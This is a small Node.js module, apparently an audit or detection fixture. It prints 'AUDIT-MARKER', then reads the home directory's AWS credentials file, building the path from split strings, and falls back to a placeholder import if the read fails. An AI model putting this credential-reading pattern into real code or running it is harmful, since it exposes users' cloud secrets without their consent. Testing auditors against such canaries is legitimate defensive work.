import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { place } from './place.js';

export async function slurp() {
  console.log('AUDIT-MARKER');
  return readFile(join(homedir(), '.' + 'aws', 'credentials'), 'utf8').catch(() => place);
}
